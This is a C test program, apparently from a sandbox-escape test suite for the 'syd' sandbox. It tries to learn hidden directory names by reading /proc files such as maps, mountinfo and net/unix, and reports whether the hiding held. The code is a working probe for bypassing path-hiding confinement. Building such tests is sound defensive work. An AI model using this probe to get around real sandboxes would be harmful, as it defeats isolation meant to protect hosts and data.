/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Attack: read the names in a hidden directory DIR/hid out of the /proc
 * files that list paths, which name them without any lookup: maps, smaps,
 * numa_maps (what is mapped), mountinfo, mounts, mountstats (what is
 * mounted, also by the symlink /proc/mounts), net/unix (where sockets are
 * bound), of the process, of its thread, by number, of a child, and
 * opened O_RDWR (which root may).
 *
 * The names come from outside the sandbox: a process made by --prepare
 * binds a UNIX socket at DIR/hid/sock, and moves DIR/work/mapme to
 * DIR/hid/mapped once this program has mapped it (DIR/work/ready says
 * so); with the flag "mountns" (esc-lib.sh), as root, the run is made in
 * a mount namespace where DIR/work is bound on DIR/hid/mnt
 * (ESC_MOUNTED=1). ESC_PREPARED: that process's socket inode. Without it
 * (the native run) the program makes the process itself, and finds the
 * names. Under syd the mapping's line and the socket's line must still be
 * there, without the name: else the attack did not run (setup error).
 */
#include "esc.h"

#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>

static char hid[PATH_MAX], mapme[PATH_MAX], ready[PATH_MAX], mapped[PATH_MAX],
	sockname[PATH_MAX];

/*
 * The outside process: binds the socket, says its inode on FD, moves
 * mapme into hid once ready is there, and lingers while the attack reads.
 */
static void outside(int fd)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	struct stat st;
	unsigned long ino = 0;
	int s, null;

	setsid();
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (strlen(sockname) < sizeof(sa.sun_path))
		memcpy(sa.sun_path, sockname, strlen(sockname) + 1);
	unlink(sockname);
	if (s >= 0 && sa.sun_path[0] &&
	    bind(s, (struct sockaddr *)&sa, sizeof(sa)) == 0 &&
	    fstat(s, &st) == 0)
		ino = (unsigned long)st.st_ino;
	dprintf(fd, "%lu\n", ino);
	close(fd);
	null = open("/dev/null", O_RDWR);
	dup2(null, 0);
	dup2(null, 1);
	dup2(null, 2);
	for (int i = 0; i < 2000 && access(ready, F_OK) < 0; i++)
		esc_sleep_ms(10);
	rename(mapme, mapped);
	sleep(15);
	_exit(0);
}

/* Start the outside process; returns its socket's inode, 0 on failure. */
static unsigned long prepare(void)
{
	char buf[32] = "";
	int p[2];
	pid_t pid;

	mkdir(hid, 0755);
	if (pipe2(p, O_CLOEXEC) < 0)
		return 0;
	pid = fork();
	if (pid == 0) {
		close(p[0]);
		outside(p[1]);
	}
	close(p[1]);
	if (pid < 0 || read(p[0], buf, sizeof(buf) - 1) <= 0)
		buf[0] = '\0';
	close(p[0]);
	return strtoul(buf, NULL, 10);
}

/* The whole of the file PATH opened with FLAGS, NUL-terminated; or NULL. */
static char *slurp(const char *path, int flags)
{
	size_t cap = 65536, len = 0;
	char *buf = malloc(cap);
	int fd = open(path, flags | O_CLOEXEC);
	ssize_t n;

	if (fd < 0 || !buf) {
		free(buf);
		if (fd >= 0)
			close(fd);
		return NULL;
	}
	while ((n = read(fd, buf + len, cap - len - 1)) > 0) {
		len += (size_t)n;
		if (cap - len - 1 == 0) {
			char *q = realloc(buf, cap * 2);

			if (!q)
				break;
			buf = q;
			cap *= 2;
		}
	}
	close(fd);
	buf[len] = '\0';
	return buf;
}

/* The line of TEXT at P, for the report. */
static void line_at(const char *text, const char *p, char *out, size_t size)
{
	const char *s = p, *e = strchr(p, '\n');

	while (s > text && s[-1] != '\n')
		s--;
	snprintf(out, size, "%.*s", (int)((e ? e : p + strlen(p)) - s), s);
}

int main(int argc, char **argv)
{
	const char *prep = getenv("ESC_PREPARED");
	const char *mounted = getenv("ESC_MOUNTED");
	char files[24][80], line[PATH_MAX + 128], key[64], hits[2048] = "";
	char first[PATH_MAX + 128] = "";
	unsigned long ino;
	bool map_seen = false, sock_seen = false;
	int nfiles = 0, fd, status;
	struct esc e;
	pid_t child;
	void *map;

	if (argc == 3 && !strcmp(argv[1], "--prepare")) {
		char *av[] = { argv[0], argv[2], NULL };

		esc_init(&e, 2, av);
	} else {
		esc_init(&e, argc, argv);
	}
	esc_path(&e, hid, e.dir, "/hid");
	esc_path(&e, mapme, e.work, "/mapme");
	esc_path(&e, ready, e.work, "/ready");
	esc_path(&e, mapped, hid, "/mapped");
	esc_path(&e, sockname, hid, "/sock");
	if (argc == 3) {
		ino = prepare();
		printf("%lu\n", ino);
		return ino ? 0 : 1;
	}
	ino = prep && *prep ? strtoul(prep, NULL, 10) : prepare();
	if (!ino)
		esc_exit(&e, ESC_SETUP, "no socket bound at %s", sockname);

	/* Map a file of our own, and have it moved into hid. */
	fd = open(mapme, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || ftruncate(fd, 4096) < 0)
		esc_exit(&e, ESC_SETUP, "%s: %s", mapme, strerror(errno));
	map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	if (map == MAP_FAILED)
		esc_exit(&e, ESC_SETUP, "mmap: %s", strerror(errno));
	close(open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	for (int i = 0; i < 1000 && access(mapme, F_OK) == 0; i++)
		esc_sleep_ms(10);
	if (access(mapme, F_OK) == 0)
		esc_exit(&e, ESC_SETUP, "%s was not moved into hid", mapme);

	/* A child shares the mapping: its /proc/PID/maps names it too. */
	child = fork();
	if (child == 0) {
		pause();
		_exit(0);
	}
#define FILE_(...) snprintf(files[nfiles++], sizeof(files[0]), __VA_ARGS__)
	FILE_("/proc/self/maps");
	FILE_("/proc/self/smaps");
	FILE_("/proc/self/numa_maps");
	FILE_("/proc/thread-self/maps");
	FILE_("/proc/self/task/%d/smaps", (int)getpid());
	FILE_("/proc/%d/maps", (int)getpid());
	FILE_("/proc/%d/maps", (int)child);
	FILE_("/proc/self/mountinfo");
	FILE_("/proc/self/mounts");
	FILE_("/proc/mounts");
	FILE_("/proc/self/mountstats");
	FILE_("/proc/thread-self/mountinfo");
	FILE_("/proc/net/unix");
	FILE_("/proc/self/net/unix");
	FILE_("/proc/thread-self/net/unix");
	snprintf(key, sizeof(key), "%lx-", (unsigned long)(uintptr_t)map);
	for (int i = 0; i < 2 * nfiles; i++) {
		/* each file read, then each opened O_RDWR (root may) */
		const char *path = files[i % nfiles];
		char *text = slurp(path, i < nfiles ? O_RDONLY : O_RDWR);
		const char *hit, *p;

		if (!text)
			continue;
		hit = strstr(text, hid);
		if (hit && !first[0])
			line_at(text, hit, first, sizeof(first));
		if (hit && strlen(hits) + strlen(path) + 16 < sizeof(hits))
			sprintf(hits + strlen(hits), "%s%s%s",
				hits[0] ? ", " : "", path,
				i < nfiles ? "" : " (O_RDWR)");
		/* the mapping's line, and the socket's, are still there */
		for (p = text; p; p = strchr(p, '\n')) {
			p += *p == '\n';
			map_seen |= !strncmp(p, key, strlen(key));
		}
		snprintf(line, sizeof(line), " %lu\n", ino);
		sock_seen |= strstr(text, line) != NULL;
		snprintf(line, sizeof(line), " %lu", ino);
		p = strstr(text, line);
		sock_seen |= p && p[strlen(line)] == '\0';
		free(text);
	}
	kill(child, SIGKILL);
	waitpid(child, &status, 0);
	if (hits[0])
		esc_exit(&e, ESC_ESCAPED, "%s named: %s; %s", hid, hits, first);
	if (!map_seen || !sock_seen)
		esc_exit(
			&e, ESC_SETUP,
			"the mapping (%s) or the socket (inode %lu) is missing "
			"from maps / net/unix: %s%s",
			key, ino, map_seen ? "" : "no mapping ",
			sock_seen ? "" : "no socket");
	esc_exit(&e, ESC_BLOCKED,
		 "%d files read, the mapping's and the socket's lines there "
		 "without a name%s",
		 nfiles, mounted ? ", a mount on hid/mnt made" : "");
}
